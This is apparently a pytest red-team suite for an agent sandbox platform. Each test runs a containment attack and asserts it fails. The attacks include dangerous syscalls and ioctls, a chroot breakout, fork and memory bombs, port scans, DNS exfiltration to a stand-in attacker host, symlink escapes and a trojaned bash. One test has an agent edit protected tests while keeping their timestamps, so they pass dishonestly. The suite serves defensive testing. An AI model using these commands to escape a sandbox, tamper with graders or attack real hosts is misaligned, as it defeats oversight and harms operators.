"""Red team: attacks a reward-optimising agent with root in its sandbox has tried (DESIGN.md,
"Misbehaviour seen in production") or could try. Each test runs one attack for real and
asserts that it fails and that the platform stays healthy: the API answers and a bystander
sandbox on the same node still runs commands.

Network attacks aim only at this machine (its own address, loopback, link-local) and at
the resolver and gate the edge runs; the egress-policy tests in tests/test_network.py
cover the registries.
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
from collections.abc import AsyncIterator
from pathlib import Path

import httpx
import pytest
from conftest import TOKEN, Platform

import dsec

pytestmark = pytest.mark.asyncio(loop_scope="session")


def _py(code: str) -> list[str]:
    return ["python3", "-c", code]


def _syscall(nr: int, *args: int) -> list[str]:
    """argv that calls syscall ``nr`` and prints "ret errno"."""
    return _py("import ctypes; libc = ctypes.CDLL(None, use_errno=True); "
               f"r = libc.syscall({nr}, {', '.join(str(a) for a in args) or '0'}); print(r, ctypes.get_errno())")


@pytest.fixture(scope="module")
async def mclient(platform: Platform) -> AsyncIterator[dsec.AsyncClient]:
    async with dsec.AsyncClient(url=platform.url, token=TOKEN) as c:
        yield c


@pytest.fixture(scope="module")
async def target(mclient: dsec.AsyncClient) -> AsyncIterator[dsec.AsyncSandbox]:
    sb = await mclient.run_container(dsec.ContainerArgs(memory_limit_mb=512, network_rules={"pypi": True}))
    yield sb
    await sb.stop()


@pytest.fixture(scope="module")
async def bystander(mclient: dsec.AsyncClient) -> AsyncIterator[dsec.AsyncSandbox]:
    sb = await mclient.run_container(dsec.ContainerArgs(image="base/busybox", memory_limit_mb=64))
    yield sb
    await sb.stop()


@pytest.fixture(autouse=True)
async def healthy(platform: Platform, bystander: dsec.AsyncSandbox) -> AsyncIterator[None]:
    """After every attack: the API answers and another sandbox still works."""
    yield
    async with httpx.AsyncClient() as h:
        assert (await h.get(f"{platform.url}/healthz", timeout=10)).status_code == 200
    r = await bystander.exec(["echo", "fine"], timeout=20)
    assert r.exit_code == 0 and r.stdout == "fine\n"


async def _events(sb: dsec.AsyncSandbox, kind: str, within: float = 20.0) -> list[str]:
    """Messages of ``kind`` events, waiting up to ``within`` seconds for the first."""
    deadline = asyncio.get_running_loop().time() + within
    while True:
        found = [e.message for e in await sb.events() if e.kind == kind]
        if found or asyncio.get_running_loop().time() > deadline:
            return found
        await asyncio.sleep(0.5)


# ---- kernel surface ------------------------------------------------------------------------

DENIED_CALLS = {  # x86_64 numbers: each must fail with EPERM inside a sandbox
    "kexec_load": (246, 0, 0, 0, 0),
    "init_module": (175, 0, 0, 0),
    "finit_module": (313, 0, 0, 0),
    "bpf_prog_load": (321, 5, 0, 0),
    "perf_event_open": (298, 0, 0, -1, -1, 0),
    "keyctl": (250, 0, 0, 0),
    "add_key": (248, 0, 0, 0, 0, 0),
    "userfaultfd": (323, 0),
    "io_uring_setup": (425, 8, 0),
    "fsopen_new_filesystem": (430, 0, 0),
    "open_by_handle_at_shocker": (304, 3, 0, 0),
    "unshare_user_namespace": (272, 0x10000000),
    "setns_host": (308, 3, 0),
    "swapon": (167, 0, 0),
    "acct": (163, 0),
}


@pytest.mark.parametrize("name", sorted(DENIED_CALLS))
async def test_dangerous_syscall_refused(target: dsec.AsyncSandbox, name: str) -> None:
    r = await target.exec(_syscall(*DENIED_CALLS[name]))
    assert r.stdout.split() == ["-1", "1"], (name, r)


async def test_extent_swap_ioctls_refused(target: dsec.AsyncSandbox) -> None:
    """XFS_IOC_SWAPEXT (what read protected files and corrupted a filesystem in production),
    any XFS-private ioctl, and EXT4_IOC_MOVE_EXT, also with high bits set to dodge an exact
    match (the kernel reads only 32 bits of the command). A non-XFS type gets ENOTTY from
    the filesystem: proof that the filter, not the filesystem, refuses the others."""
    code = ("import ctypes, os; libc = ctypes.CDLL(None, use_errno=True)\n"
            "libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_void_p]\n"
            "fd = os.open('/root/victim', os.O_RDWR | os.O_CREAT); buf = ctypes.create_string_buffer(256)\n"
            "for cmd in (0xC0C0587D, 0xC020587F, 0xC028660F, 0x1C028660F, 0xFFFFFFFFC0C0587D, 0xC0C0597D):\n"
            "    print(hex(cmd), libc.ioctl(fd, cmd, buf), ctypes.get_errno())\n")
    r = await target.exec(_py(code))
    lines = [line.split() for line in r.stdout.splitlines()]
    assert [(c, e) for c, _, e in lines[:5]] == [(c, "1") for c, _, _ in lines[:5]], r
    assert lines[5][2] == "25", r  # ENOTTY


async def test_reflink_and_dedupe_answer_not_supported(target: dsec.AsyncSandbox) -> None:
    code = ("import fcntl, os\n"
            "a = os.open('/root/a', os.O_RDWR | os.O_CREAT); os.write(a, b'x' * 8192)\n"
            "b = os.open('/root/b', os.O_RDWR | os.O_CREAT)\n"
            "try: fcntl.ioctl(b, 0x40049409, a); print('cloned')\n"
            "except OSError as e: print(e.errno)\n")
    r = await target.exec(_py(code))
    assert r.stdout.strip() == "95", r
    r = await target.run_shell("cp --reflink=auto /root/a /root/c && cmp /root/a /root/c && echo copied")
    assert r.stdout.strip() == "copied"  # ordinary tools fall back to copying


async def test_device_nodes_raw_and_packet_sockets_refused(target: dsec.AsyncSandbox) -> None:
    r = await target.run_shell("mknod /root/sda b 8 0 2>&1; echo rc=$?")
    assert "rc=1" in r.stdout and "not permitted" in r.stdout.lower()
    for family, kind, proto in (("AF_INET", "SOCK_RAW", 1), ("AF_PACKET", "SOCK_RAW", 768)):
        r = await target.exec(_py(f"import socket; socket.socket(socket.{family}, socket.{kind}, {proto})"))
        assert r.exit_code != 0 and "not permitted" in r.stderr, r


async def test_chroot_breakout_stays_in_the_sandbox(platform: Platform, target: dsec.AsyncSandbox) -> None:
    code = ("import os\n"
            "os.makedirs('/tmp/jail', exist_ok=True); fd = os.open('/', os.O_RDONLY)\n"
            "os.chroot('/tmp/jail'); os.fchdir(fd)\n"
            "for _ in range(64): os.chdir('..')\n"
            "os.chroot('.')\n"
            f"print(os.path.exists({platform.data_dir!r}), os.path.exists('/root/a'))\n")
    r = await target.exec(_py(code))
    assert r.stdout.split() == ["False", "True"], r  # back at the sandbox's own root, not the host's


async def test_masked_kernel_files_give_nothing(target: dsec.AsyncSandbox) -> None:
    for path in ("/proc/kpagecgroup", "/proc/kpageflags", "/proc/kcore", "/proc/iomem", "/proc/slabinfo",
                 "/proc/modules", "/sys/kernel/mm/page_idle/bitmap", "/proc/kallsyms"):
        r = await target.run_shell(f"head -c 64 {path} 2>/dev/null | wc -c")
        assert r.stdout.strip() == "0", path
    # sysrq-trigger is /dev/null in here, or absent (never write a real command to it in a test: 'c'
    # crashes a host)
    r = await target.run_shell("f=/proc/sysrq-trigger; if [ -e $f ]; then stat -Lc %t,%T $f; else echo absent; fi")
    assert r.stdout.strip() in ("1,3", "absent"), r
    r = await target.run_shell("echo 1 > /proc/sys/kernel/panic; echo 3 > /proc/sys/vm/drop_caches; true")
    assert r.stderr.count("Read-only file system") == 2, r


async def test_recursive_grep_of_the_root_completes(platform: Platform, target: dsec.AsyncSandbox) -> None:
    """`grep -r /` read /proc/kpagecgroup and crashed a production kernel."""
    r = await target.run_shell("timeout 600 grep -rsIl no-such-string-8c1f / | wc -l; echo rc=${PIPESTATUS[0]}",
                               timeout=660)
    # it finished (1: nothing found; 2: some files could not be read), found nothing, crashed nothing
    assert r.stdout.split() in (["0", "rc=1"], ["0", "rc=2"]), r


# ---- the agent and the platform --------------------------------------------------------------

async def test_no_platform_socket_is_reachable(target: dsec.AsyncSandbox) -> None:
    r = await target.run_shell("cat /proc/net/unix | grep -ci dsec; true")
    assert r.stdout.strip() == "0"
    code = ("import socket\n"
            "for name in ('\\0dsec', '\\0dsec-init', '/run/dsec/s', '/proc/1/fd/4'):\n"
            "    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)\n"
            "    try: s.connect(name); print('reached', repr(name))\n"
            "    except OSError as e: print('refused', e.errno)\n")
    r = await target.exec(_py(code))
    assert "reached" not in r.stdout and r.stdout.count("refused") == 4, r


async def test_sibling_memory_cannot_be_read(target: dsec.AsyncSandbox) -> None:
    await target.run_shell("sleep 30 &")
    code = ("import ctypes, subprocess\n"
            "pid = int(subprocess.check_output(['pgrep', '-xo', 'sleep']))\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "buf = ctypes.create_string_buffer(16)\n"
            "class V(ctypes.Structure): _fields_ = [('b', ctypes.c_void_p), ('n', ctypes.c_size_t)]\n"
            "l, rr = V(ctypes.addressof(buf), 16), V(0x400000, 16)\n"
            "print(libc.process_vm_readv(pid, ctypes.byref(l), 1, ctypes.byref(rr), 1, 0), ctypes.get_errno())\n")
    r = await target.exec(_py(code))
    assert r.stdout.split() == ["-1", "1"], r


async def test_stopping_init_changes_nothing(target: dsec.AsyncSandbox) -> None:
    await target.run_shell("kill -STOP 1; kill -TSTP 1; kill -SEGV 1; true")
    r = await target.exec(["echo", "still here"])
    assert r.stdout == "still here\n"


async def test_no_trace_of_earlier_commands_in_the_sandbox(target: dsec.AsyncSandbox) -> None:
    """An answer the grader passed to a command must not be findable afterwards (agent
    logs, command records and histories live outside)."""
    await target.exec(["true"], env={"GRADER_ANSWER": "s3cr3t-answer-77"})
    await target.exec(["sh", "-c", "true # s3cr3t-answer-77"])
    r = await target.run_shell("grep -rlsI s3cr3t-answer-7[7] / --exclude-dir=proc --exclude-dir=sys; echo rc=$?",
                               timeout=600)
    assert r.stdout.strip() == "rc=1", r.stdout


async def test_replaced_shell_does_not_reach_the_platform(target: dsec.AsyncSandbox) -> None:
    """Overwriting bash and other tools: the platform's own work (files, spawning argv,
    HTTP) never runs them, and the replacement is flagged."""
    trap = "#!/bin/dash\necho PWNED >> /tmp/pwned\nexec /bin/dash \"$@\"\n"
    r = await target.run_shell(f"printf '%s' {json.dumps(trap)} > /usr/bin/bash.x && chmod +x /usr/bin/bash.x && "
                               "for b in bash env cat ls; do cp /usr/bin/bash.x /usr/bin/$b.new && "
                               "mv -f /usr/bin/$b.new /usr/bin/$b || exit 1; done; echo ok")
    assert r.stdout.strip() == "ok", r
    await target.write_file("/root/file.txt", "data")
    assert await target.read_file("/root/file.txt") == b"data"
    assert [f.name for f in await target.list_dir("/root")]
    r = await target.exec(["python3", "-c", "print('argv ok')"])
    assert r.stdout == "argv ok\n"
    assert not [f for f in await target.list_dir("/tmp") if f.name == "pwned"]
    flags = [a.detail for a in await target.audit(flagged=True)]
    assert any("/usr/bin/bash" in f for f in flags), flags


async def test_symlinks_do_not_lead_platform_file_ops_to_the_host(tmp_path: Path,
                                                                  target: dsec.AsyncSandbox) -> None:
    secret = tmp_path / "host-secret"
    secret.write_text("host only")
    await target.run_shell(f"ln -sf {secret} /root/leak; ln -sf ../../../../..{secret} /root/leak2; "
                           f"ln -sf /proc/1/root{secret} /root/leak3")
    for name in ("leak", "leak2", "leak3"):
        with pytest.raises((dsec.NotFound, dsec.InvalidRequest)):
            await target.read_file(f"/root/{name}")
        with pytest.raises((dsec.NotFound, dsec.InvalidRequest)):  # resolved in the sandbox: no such dir there
            await target.write_file(f"/root/{name}", "overwritten")
    assert secret.read_text() == "host only"


async def test_platform_probing_is_flagged(target: dsec.AsyncSandbox) -> None:
    await target.run_shell("ls /proc/1/root/ 2>/dev/null; true")  # through the API: the request is flagged
    # from a program the sandbox runs by itself: the kernel's process events see it
    # (the path is assembled at run time, so only the process it starts names it)
    await target.exec(["python3", "-c", "import subprocess; subprocess.run(['sh', '-c', 'sleep 0.3; : /proc/1/'"
                       " + 'environ'])"])
    flags = [a for a in await target.audit(flagged=True) if a.flag == "platform_probe"]
    assert any("/proc/1/root" in f.detail for f in flags), flags
    assert any("sleep 0.3; : /proc/1/environ" in f.detail for f in flags), flags
    assert any(a.kind == "process" and a.detail.endswith("sh -c sleep 0.3; : /proc/1/environ")
               for a in await target.audit(kind="process"))


async def test_editing_protected_tests_is_flagged(client: dsec.AsyncClient) -> None:
    sb = await client.run_container(dsec.ContainerArgs())
    try:
        await sb.write_file("/work/tests/test_solution.py", "def test_it():\n    assert solve() == 42\n")
        assert await sb.protect(["/work/tests"]) == 1
        # the agent makes the test pass the lazy way, keeping size and mtime the same
        await sb.run_shell("cd /work/tests && m=$(stat -c %y test_solution.py) && "
                           "sed -i 's/== 42/!= 42/' test_solution.py && touch -d \"$m\" test_solution.py && "
                           "echo 'x' > conftest.py")
        flags = sorted(a.detail for a in await sb.audit(flagged=True) if a.flag == "protected_path")
        assert flags == ["added /work/tests/conftest.py", "changed /work/tests/test_solution.py"], flags
    finally:
        await sb.stop()


# ---- resource abuse ----------------------------------------------------------------------------

async def test_fork_bomb_is_contained(client: dsec.AsyncClient) -> None:
    sb = await client.run_container(dsec.ContainerArgs(image="base/busybox", pids_limit=64, memory_limit_mb=128))
    try:
        r = await sb.exec("b() { b | b & }; b", timeout=5)
        assert "can't fork" in r.stderr, r
        assert await _events(sb, "pids_limit")
        assert (await sb.exec(["echo", "ok"])).stdout == "ok\n"
    finally:
        await sb.stop()


async def test_memory_bomb_is_killed_inside(client: dsec.AsyncClient) -> None:
    sb = await client.run_container(dsec.ContainerArgs(memory_limit_mb=64))
    try:
        r = await sb.exec(_py("x = []\nwhile True: x.append(bytearray(16 << 20))"), timeout=60)
        assert r.exit_code == 137
        assert await _events(sb, "oom_killed")
        assert (await sb.exec(["echo", "ok"])).stdout == "ok\n"
    finally:
        await sb.stop()


async def test_disk_filling_hits_the_quota(platform: Platform, client: dsec.AsyncClient) -> None:
    sb = await client.run_container(dsec.ContainerArgs(disk_limit_mb=32))
    free_before = os.statvfs(platform.data_dir).f_bavail
    try:
        r = await sb.run_shell("dd if=/dev/urandom of=/root/fill bs=1M count=200 2>&1; echo rc=$?", timeout=60)
        assert "quota exceeded" in r.stdout.lower() and "rc=1" in r.stdout, r
        assert await _events(sb, "disk_quota", within=30)
        assert (usage := await sb.usage()).disk_bytes <= 34 << 20, usage
        assert (await sb.exec(["rm", "/root/fill"])).exit_code == 0  # still usable
        assert (await sb.exec(["sh", "-c", "echo ok > /root/small && cat /root/small"])).stdout == "ok\n"
    finally:
        await sb.stop()
    assert free_before - os.statvfs(platform.data_dir).f_bavail < (64 << 20) // os.statvfs(platform.data_dir).f_frsize


async def test_inode_exhaustion_hits_the_quota(client: dsec.AsyncClient) -> None:
    sb = await client.run_container(dsec.ContainerArgs(disk_limit_mb=16))
    try:
        code = ("import os, errno\nos.makedirs('/root/many')\nn = 0\n"
                "try:\n    while n < 2_000_000:\n        open(f'/root/many/{n}', 'w').close(); n += 1\n"
                "except OSError as e:\n    print(n, errno.errorcode[e.errno])\n")
        r = await sb.exec(_py(code), timeout=300)
        n, err = r.stdout.split()
        assert err in ("EDQUOT", "ENOSPC") and int(n) < 2_000_000, r
        assert (await sb.exec(["echo", "ok"])).stdout == "ok\n"
    finally:
        await sb.stop()


async def test_endless_output_is_bounded(target: dsec.AsyncSandbox) -> None:
    r = await target.exec(["yes", "spam"], timeout=3, max_output_bytes=1 << 20)
    assert r.timed_out and r.stdout_truncated and len(r.stdout) <= 1 << 20
    assert await _events(target, "output_truncated")


async def test_cpu_spinning_is_held_to_its_quota(client: dsec.AsyncClient, bystander: dsec.AsyncSandbox) -> None:
    sb = await client.run_container(dsec.ContainerArgs(image="base/busybox", cpu_cores_limit=0.25))
    try:
        await sb.run_shell("for i in 1 2 3 4; do (while :; do :; done) & done")
        for _ in range(5):  # the bystander keeps answering while the spinner runs
            r = await bystander.exec(["echo", "ok"], timeout=10)
            assert r.exit_code == 0
            await asyncio.sleep(1)
        assert await _events(sb, "cpu_throttled", within=30)
        usage = await sb.usage()
        assert usage.cpu_s < 0.25 * 60  # never more than its quarter of a core
    finally:
        await sb.stop()


# ---- network ------------------------------------------------------------------------------------

def _host_ip() -> str:
    out = subprocess.run(["ip", "-j", "-4", "addr"], capture_output=True, text=True, check=True).stdout
    return next(a["local"] for link in json.loads(out) for a in link.get("addr_info", [])
                if not a["local"].startswith("127."))


async def test_port_scan_finds_nothing_and_is_flagged(platform: Platform, target: dsec.AsyncSandbox) -> None:
    host = _host_ip()
    code = ("import socket, sys\nopen_ = []\n"
            "for host in sys.argv[1:]:\n"
            "    for port in list(range(1, 40)) + [22, 5432, 6379, 7777, 8080, " + str(platform.port) + "]:\n"
            "        s = socket.socket(); s.settimeout(0.5)\n"
            "        try: s.connect((host, port)); open_.append((host, port))\n"
            "        except OSError: pass\n"
            "        finally: s.close()\n"
            "print(open_)\n")
    gw = target.info.network.gateway  # type: ignore[union-attr]
    r = await target.exec([*_py(code), host, gw, "169.254.169.254", "127.0.0.53"], timeout=300)
    assert r.stdout.strip() == "[]", r
    flags = [a.flag for a in await target.audit(flagged=True)]
    assert "egress_burst" in flags


async def test_dns_for_denied_names_is_refused(target: dsec.AsyncSandbox) -> None:
    r = await target.run_shell("getent hosts exfil-c2f1.attacker.invalid; echo rc=$?; "
                               "getent hosts $(head -c 20 /etc/hostname).leak.example; echo rc=$?")
    assert r.stdout.count("rc=2") == 2, r
    denied = await _events(target, "egress_denied")
    assert any("exfil-c2f1.attacker.invalid" in m for m in denied), denied


async def test_host_header_spoofing_through_the_gate(target: dsec.AsyncSandbox) -> None:
    """pypi is allowed; a request to the same front end naming another host is refused."""
    r = await target.run_shell("ip=$(getent hosts pypi.org | cut -d' ' -f1); "
                               "curl -sS -m 10 -H 'Host: internal.example' http://$ip/ ; echo; "
                               "curl -sS -m 10 -o /dev/null -w '%{http_code}' --connect-to ::$ip: "
                               "https://internal.example/; echo rc=$?")
    assert "not allowed by this sandbox's network rules" in r.stdout, r
    assert "rc=0" not in r.stdout


# ---- identities: builder and runner ---------------------------------------------------------------

@pytest.fixture(scope="module")
async def tokens(mclient: dsec.AsyncClient) -> dict[str, str]:
    out = {}
    for project, role in (("alpha", "runner"), ("alpha", "builder"), ("beta", "runner")):
        out[f"{project}-{role}"] = (await mclient.create_token(project, role)).token or ""
    return out


async def test_runner_token_cannot_publish_or_mint(platform: Platform, tokens: dict[str, str]) -> None:
    async with dsec.AsyncClient(url=platform.url, token=tokens["alpha-runner"]) as c:
        sb = await c.run_container(dsec.ContainerArgs(image="base/busybox"))
        try:
            with pytest.raises(dsec.Forbidden):
                await sb.pack_diff("ws/stolen:v1")
            with pytest.raises(dsec.Forbidden):
                await c.create_token("alpha", "builder")
            async with httpx.AsyncClient() as h:
                r = await h.delete(f"{platform.url}/v1/layers/base/busybox:latest",
                                   headers={"Authorization": f"Bearer {tokens['alpha-runner']}"})
                assert r.status_code == 403 and r.json()["error"] == "forbidden"
        finally:
            await sb.stop()


async def test_builder_publishes_and_runner_runs_it(platform: Platform, tokens: dict[str, str]) -> None:
    async with dsec.AsyncClient(url=platform.url, token=tokens["alpha-builder"]) as b:
        env = await b.run_container(dsec.ContainerArgs(image="base/busybox"))
        await env.exec(["sh", "-c", "mkdir -p /work && echo tools > /work/tool.txt"])
        snap = await env.pack_diff("ws/alpha-env:v1")
        await env.stop()
    async with dsec.AsyncClient(url=platform.url, token=tokens["alpha-runner"]) as r:
        (kid,) = await r.fork(snap, n=1)
        try:
            assert (await kid.exec(["cat", "/work/tool.txt"])).stdout == "tools\n"
        finally:
            await kid.stop()


async def test_projects_cannot_see_each_other(platform: Platform, tokens: dict[str, str]) -> None:
    async with dsec.AsyncClient(url=platform.url, token=tokens["alpha-runner"]) as a, \
            dsec.AsyncClient(url=platform.url, token=tokens["beta-runner"]) as b:
        mine = await a.run_container(dsec.ContainerArgs(image="base/busybox", labels={"dsec.project": "beta"}))
        try:
            assert mine.info.labels["dsec.project"] == "alpha"  # a token cannot pick another project
            assert mine.sandbox_id not in [i.sandbox_id for i in await b.list()]
            for attempt in (b.connect(mine.sandbox_id), b._json("POST", f"/v1/sandboxes/{mine.sandbox_id}/exec",
                                                              json={"cmd": "id"})):
                with pytest.raises(dsec.NotFound):
                    await attempt
            # bulk operations stay in the caller's project, whatever label it names
            assert await b.stop_many(labels={"dsec.project": "alpha"}) == []
            assert (await mine.exec(["echo", "mine"])).stdout == "mine\n"
        finally:
            await mine.stop()


async def test_a_revoked_or_forged_token_is_refused(platform: Platform, client: dsec.AsyncClient) -> None:
    info = await client.create_token("gamma", "runner")
    await client.revoke_token(info.id)
    for tok in (info.token or "", "dsec_" + "A" * 43, TOKEN + "x"):
        async with dsec.AsyncClient(url=platform.url, token=tok) as c:
            with pytest.raises(dsec.Unauthorized):
                await c.list()
